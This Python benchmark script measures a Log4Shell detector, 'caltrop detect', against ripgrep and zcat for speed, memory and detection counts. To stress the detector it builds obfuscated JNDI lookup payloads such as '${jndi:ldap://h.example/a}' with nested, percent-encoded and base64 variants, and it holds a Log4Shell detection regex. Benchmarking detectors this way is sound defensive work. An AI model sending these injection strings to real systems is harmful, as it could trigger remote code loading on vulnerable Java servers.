#!/usr/bin/env python3
"""Measures caltrop detect against rg, zcat and fixed limits; prints a table and, with --write, keeps it.

One run, one pinned core, CPU time (user + system), input in the page cache; only the two-thread line uses two cores and wall
time. The commands of a line take turns, and its figure is the median of what each round gave: of its ratios, where it is one.
The rounds of two threads are spread over the whole run: wall time on cores that are not pinned holds what else the machine does.
Needs about 1.7 times --size free below --tmp (default: TMPDIR or /tmp).

The exit status is 0 when every limit was kept, 1 when one was missed, 4 when something could not be run.
"""
import argparse
import os
import pathlib
import platform
import re
import shutil
import signal
import statistics
import subprocess
import sys
import tempfile
import time

# A pattern of the kind people wrote in December 2021: an opener in the usual encodings, then the letters of jndi in their
# order with anything small between them.
LOG4SHELL_REGEX = (r"(?i)(?:\$|%(?:25)?24|\\x24|\\u0024|&#36;)(?:\{|%(?:25)?7b|\\x7b|\\u007b|&#123;)"
                   r".{0,200}?j.{0,40}?n.{0,40}?d.{0,40}?i.{0,40}?(?::|%(?:25)?3a|\\x3a|\\u003a|&#58;)")


CORES = sorted(os.sched_getaffinity(0))
PARTS = ("plain", "json", "dense", "attacks", "worst", "memory")


def fail(text):
    print(f"bench: {text}", file=sys.stderr)
    sys.exit(4)


def cpu(command, core, ok=(0, 1)):
    """CPU seconds and wall seconds of a shell command and all its children, on one core (None: two).
    Output goes to a file: some tools stop at the first match when they see /dev/null."""
    os.sched_setaffinity(0, {core} if core is not None else CORES[:2])  # not by the child: it would be a copy of this process first
    if "|" not in command:
        command = f"exec {command}"  # no second process beside the shell
    with tempfile.TemporaryFile() as output:
        begin = time.monotonic()
        process = subprocess.Popen(["sh", "-c", command], stdout=output, stderr=subprocess.DEVNULL)
        _, status, used = os.wait4(process.pid, 0)
        wall = time.monotonic() - begin
    process.returncode = os.waitstatus_to_exitcode(status)
    if process.returncode not in ok:
        fail(f"exit status {process.returncode}: {command}")
    return used.ru_utime + used.ru_stime, wall


def interleaved(commands, core, rounds, which=0):
    """What each round took, per command; the commands take turns, so that a slow second hits all of them."""
    for command in commands:
        cpu(command, core)
    return list(zip(*([cpu(command, core)[which] for command in commands] for _ in range(rounds))))


def ratio(these, those):
    return statistics.median(a / b for a, b in zip(these, those))


def peak_mib(command, core, ok=(0, 1)):
    """Peak resident memory by GNU time; a shell or Python in between would count its own pages. None: over ten minutes."""
    with tempfile.NamedTemporaryFile() as report:
        process = subprocess.Popen(["taskset", "-c", str(core), "/usr/bin/time", "-f", "%M", "-o", report.name, *command],
                                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        try:
            status = process.wait(timeout=600)
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait()
            return None
        if status not in ok:
            fail(f"exit status {status}: {' '.join(command)}")
        return int(pathlib.Path(report.name).read_text().split()[-1]) / 1024


def fill(line, n=65536):
    """One piece repeated to a line of exactly n bytes."""
    return (line * (n // len(line) + 1))[:n]


def worst_lines():
    """Single lines of 64 KiB that each aim at one part of the verdict."""
    base64 = "JHtqbmRpOmxkYXA6Ly9hLmV4YW1wbGUvYX0"
    yield "openers", fill("${")
    yield "openers, then a call", fill("${", 65500) + "jndi:ldap://h.example/a}"
    yield "open jndi", fill("${jndi:")
    yield "closed empties", fill("${a}")
    yield "deep and closed", "${" * 21000 + "a" + "}" * 21000
    yield "defaults in defaults", fill("${::-${::-")
    yield "one lookup, many jndi", "${" + fill("jndi", 65530) + "}"
    yield "dollars", fill("$${")
    yield "many calls", fill("${jndi:ldap://h.example/a}")
    yield "lower in lower", fill("${lower:${upper:")
    yield "letters apart", fill("${${lower:j}${::-n}${env:Q:-d}i:ldap://h.example/${date:'a'}}")
    yield "percent of percent", fill("%25", 65500) + "24%7bjndi:x%7d"
    yield "percent", fill("%24%7Ba%7D")
    yield "entities", fill("&#36;&#123;a&#125;")
    yield "backslashes", fill("\\u0024\\x7ba\\175")
    yield "all layers", fill("%2524%257b&amp;#36;\\\\u0024{${%5cx24")
    yield "base64", fill(base64)
    yield "a cycle", fill("${${sys:a:-${::-$}{sys:a}}}")
    yield "quotes in a log line", '1.2.3.4 - - [10/Dec/2021:14:00:00 +0000] "GET /' + fill('\\"${"', 65400) + '" 200 1 "-" "-"'
    yield "JSON", '{"a":"' + fill("\\u0024{", 65520) + '"}'
    yield "JSON nested", fill('{"a":[') + "${"
    # What bench/hostile met: many parameters of several layers each, and values that hold the message.
    log = '1.2.3.4 - - [10/Dec/2021:14:00:00 +0000] "GET /'
    yield "message in message, encoded", log + fill("${event:Message}%252524x%24\\\\u0024&#38;${lower:", 65300) + '" 200 1 "-" "-"'
    yield "layers in parameters", log + "?q=" + fill("\\x24&${sys:a}%25${a[%252524${a", 65300) + '" 200 1 "-" "-"'
    yield "escapes in parameters", log + fill("\\\\\\x&amp;amp;%24}${sys:a}", 65300) + '" 200 1 "-" "-"'
    yield "parameters in a raw line", fill("\\a${sys:a}%5c&a=\\\\")
    yield "parameters in JSON", '{"a":"' + fill("&#x-\\x24${::-\\x24%252524", 65500) + '"}'
    yield "quotes in parameters", log + fill('${env:&#\\"', 65300) + '" 200 1 "-" "-"'
    yield "signs in parameters", log + fill("$$\\/[$$$$$${$${&", 65300) + '" 200 1 "-" "-"'
    yield "a word and a default", '{"a":"' + fill("${a:-${b}}&#38;\\x7b", 65500) + '"}'
    yield "dollars in mail", "Dec 10 14:00:00 h postfix/cleanup[1]: 4B1: reject: header Subject: " + fill("$", 65300) + "&#x2e%65${lower:j} from h.example[192.0.2.1]: x"
    yield "base64 values joined by '+'", fill("+JiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYm")
    yield "text in base64, over every '+'", fill("ICAgICAgICAgICAgICAgICA+")
    yield "text in base64, over every sign", fill("ICAgICAgICAgICAgICAgICA/ICAgICAgICAgICAgICAgICA+ICAgICAgICAgICAgICAgICA-")
    yield "half a name in parameters", log + fill('\\"&lt${ctx:a}\xff', 65300) + '" 200 1 "-" "-"'


class Bench:
    def __init__(self, args, tmp):
        self.args, self.tmp, self.rows, self.missed = args, tmp, [], 0
        self.combined, self.beside = tmp / "combined.log", []  # wall time of one thread and of two, a pair a round
        self.core = args.core if args.core is not None else CORES[-1]
        self.program, self.detect = args.caltrop, f"{args.caltrop} detect -j 1"
        self.size = args.size << 20

    def row(self, what, measured, limit, kept):
        mark = "" if kept is None else "kept" if kept else "MISSED"
        self.missed += kept is False
        self.rows.append((what, measured, limit, mark))
        print(f"{what:62} {measured:>30}   {limit:<22} {mark}", flush=True)

    def generate(self, name, size, *options):
        path = self.tmp / name
        made = subprocess.run([self.args.loggen, "--bytes", str(size), "--seed", "7", *options, "--count", "--out", path], check=True,
                              capture_output=True, text=True)
        self.planted = int(made.stderr.split()[0])
        return path

    def all_found(self, path, what):
        """Speed counts only when the work was done: every planted attack comes out as one event."""
        events = subprocess.run([self.args.caltrop, "detect", "-q", "--json", path], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, check=False)
        found = events.stdout.count(b"\n")
        self.row(f"{what}: planted attacks found", f"{found} of {self.planted}", "all, and no more", found == self.planted)

    def against_rg(self, path, what, limit, regex_too=False):
        commands = [f"{self.detect} {path}", f"rg -j1 -F -c '${{' {path}"]
        if regex_too:
            commands.append(f"rg -j1 -c '{LOG4SHELL_REGEX}' {path}")
        ours, fixed, *regex = interleaved(commands, self.core, self.args.rounds)
        speed = path.stat().st_size / 1e9 / statistics.median(ours)
        against = ratio(ours, fixed)
        self.row(f"{what}: CPU against `rg -j1 -F -c '${{'`", f"{against:.2f} ({speed:.2f} GB/s)", f"at most {limit}", against <= limit)
        for times in regex:
            against = ratio(ours, times)
            self.row(f"{what}: CPU against `rg` with one log4shell regex", f"{against:.2f}", "under 1", against < 1)

    def plain(self):
        path = self.generate(self.combined.name, self.size, "--attacks", "0.001", "--encoded", "0.05")
        self.all_found(path, "combined log")
        self.against_rg(path, "combined log", 1.5, regex_too=True)
        peak = peak_mib([self.program, "detect", "-j", "2", str(path)], self.core)
        self.row("peak memory, plain, two threads", f"{peak:.0f} MiB", "under 64 MiB", peak < 64)
        self.gzipped(path)

    def gzipped(self, path):
        packed = path.with_suffix(".log.gz")
        with open(packed, "wb") as to:
            subprocess.run(["gzip", "-6", "-c", path], stdout=to, check=True)
        ours, zcat = interleaved([f"{self.detect} {packed}", f"zcat {packed} | wc -l"], self.core, max(3, self.args.rounds // 2))
        faster = ratio(zcat, ours)
        self.row("combined log, gzip: speed against `zcat | wc -l`, CPU", f"{faster:.2f}", "at least 2", faster >= 2)
        peak = peak_mib([self.program, "detect", "-j", "2", str(packed)], self.core)
        self.row("peak memory, gzip, two threads", f"{peak:.0f} MiB", "under 64 MiB", peak < 64)
        packed.unlink()

    def rounds_of_two_threads(self):
        if len(CORES) >= 2 and self.combined.exists():
            commands = [f"{self.program} detect -j {n} {self.combined}" for n in (1, 2)]
            self.beside += zip(*interleaved(commands, None, -(-self.args.rounds // 2), which=1))

    def two_threads(self):
        if self.beside:
            faster = ratio(*zip(*self.beside))
            self.row("combined log: two threads against one, wall time", f"{faster:.2f}", "at least 1.7", faster >= 1.7)
        elif self.combined.exists():
            self.row("combined log: two threads against one", "one core only", "at least 1.7", None)

    def of_kind(self, kind, what):
        path = self.generate(f"{kind}.log", self.size // 2, "--format", kind, "--attacks", "0.001", "--encoded", "0.05")
        self.all_found(path, what)
        self.against_rg(path, what, 2)
        path.unlink()

    def json(self):
        self.of_kind("json", "JSON lines")

    def dense(self):
        self.of_kind("dense", "log dense in % & \\")

    def attacks(self):
        path = self.generate("attacks.log", self.size // 8, "--attacks", "1")
        used = statistics.median(*interleaved([f"{self.detect} {path}"], self.core, max(3, self.args.rounds // 2)))
        speed = path.stat().st_size / 1e6 / used
        self.row("every line an obfuscated attack", f"{speed:.0f} MB/s", "at least 25 MB/s", speed >= 25)
        path.unlink()

    def worst(self):
        copies = 20
        empty = self.tmp / "empty.log"
        empty.write_text("\n")
        start = statistics.median(*interleaved([f"{self.detect} {empty}"], self.core, 5))
        slowest = (0, "")
        for name, line in worst_lines():
            path = self.tmp / "worst.log"
            path.write_text((line + "\n") * copies, encoding="latin-1")
            used = statistics.median(*interleaved([f"{self.detect} {path}"], self.core, 3))
            each = (used - start) / copies * 1000
            if self.args.verbose:
                print(f"  {name:40} {each:8.2f} ms")
            slowest = max(slowest, (each, name))
            path.unlink()
        self.row(f"worst of {len(list(worst_lines()))} hostile 64 KiB lines (\"{slowest[1]}\")", f"{slowest[0]:.1f} ms", "under 20 ms", slowest[0] < 20)

    def memory(self):
        log = self.generate("memory.log", min(self.size, 256 << 20) , "--attacks", "0.001")
        packers = [("xz", "xz -T1 -0 -c", "xz, 0.25 MiB window", 64), ("xz", "xz -T1 --lzma2=preset=0,dict=64MiB -c", "xz, 64 MiB window", 128),
                   ("zst", "zstd -q -3 -c", "zstd", 64 + 8), ("zst", "zstd -q -3 --long=27 -c", "zstd, 128 MiB window", 128 + 64),
                   ("bz2", "bzip2 -1 -c", "bzip2", 64 + 4), ("lz4", "lz4 -q -1 -c", "lz4", 64 + 8)]
        for suffix, packer, what, limit in packers:
            packed = self.tmp / f"memory.log.{suffix}"
            with open(packed, "wb") as to:
                subprocess.run([*packer.split(), log], stdout=to, check=True)
            peak = peak_mib([*self.detect.split(), str(packed)], self.core)
            self.row(f"peak memory, {what}", f"{peak:.0f} MiB", f"under {limit} MiB", peak < limit)
            packed.unlink()
        log.unlink()
        for what, piece in (("of plain text", b"a" * 4096), ("of ${", b"${" * 2048), ("of whole attacks", b"${jndi:ldap://h.example/a} " * 151)):
            path = self.tmp / "long.log"
            with open(path, "wb") as to:
                left = 100 << 20
                while left > 0:
                    left -= to.write(piece[:left])
            peak = peak_mib([*self.detect.split(), str(path)], self.core, ok=(0, 1, 3))
            self.row(f"peak memory, one line of 100 MB {what}", "over ten minutes" if peak is None else f"{peak:.0f} MiB", "under 64 MiB",
                     peak is not None and peak < 64)
            path.unlink()

    def table(self):
        model = re.search(r"model name\s*:\s*(.*)", pathlib.Path("/proc/cpuinfo").read_text())
        tools = [subprocess.run(c, capture_output=True, text=True, check=False).stdout.split("\n")[0] for c in (["rg", "--version"], ["gzip", "--version"])]
        form = re.search(r"prefilter\s+(.*)", subprocess.run([self.program, "version", "-v"], capture_output=True, text=True, check=True).stdout).group(1)
        lines = ["| what | measured | limit | |", "|---|---|---|---|"]
        lines += ["| " + " | ".join(cell.replace("|", "\\|") for cell in row) + " |" for row in self.rows]
        lines += ["", f"{self.args.size} MiB of generated log (0.1 % attacks, 5 % of lines percent-encoded), medians of {self.args.rounds} interleaved rounds (two threads: {len(self.beside)}), "
                  f"one core of {model.group(1).strip() if model else platform.machine()} ({form}), {tools[0]}, {tools[1]}. Made by `make bench`.", ""]
        return "\n".join(lines)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--build", default="build", help="build folder with caltrop and bench/loggen")
    parser.add_argument("--size", type=int, default=1024, help="MiB of the large log")
    parser.add_argument("--rounds", type=int, default=5)
    parser.add_argument("--core", type=int, help="the core to pin (default: the last)")
    parser.add_argument("--tmp", default=None, help="folder for temporary files")
    parser.add_argument("--write", help="Markdown file for the table")
    parser.add_argument("--only", help="parts to run, comma-separated: " + ",".join(PARTS))
    parser.add_argument("-v", "--verbose", action="store_true", help="each hostile line by name")
    args = parser.parse_args()
    args.caltrop, args.loggen = os.path.abspath(f"{args.build}/caltrop"), os.path.abspath(f"{args.build}/bench/loggen")
    for needed in (args.caltrop, args.loggen):
        if not os.access(needed, os.X_OK):
            fail(f"{needed} is missing: make build")
    for tool in ("rg", "zcat", "gzip", "xz", "zstd", "bzip2", "lz4", "taskset", "/usr/bin/time"):
        if not shutil.which(tool):
            fail(f"{tool} is missing: tools/deps.sh bench")
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))  # so that the folder below is removed
    with tempfile.TemporaryDirectory(prefix="caltrop-bench-", dir=args.tmp) as folder:
        need, free = int(args.size * 1.7), shutil.disk_usage(folder).free >> 20
        print(f"bench: temporary files in {folder}: {need} MiB needed, {free} MiB free")
        if free < need:
            fail("not enough room: --tmp DIR or a smaller --size")
        bench = Bench(args, pathlib.Path(folder))
        wanted = args.only.split(",") if args.only else PARTS
        for part in PARTS:
            if part in wanted:
                getattr(bench, part)()
                bench.rounds_of_two_threads()
        bench.two_threads()
    if args.write and not args.only:
        pathlib.Path(args.write).write_text(bench.table())
    print(f"bench: {len(bench.rows)} figures, {bench.missed} limits missed")
    return 1 if bench.missed else 0


if __name__ == "__main__":
    sys.exit(main())
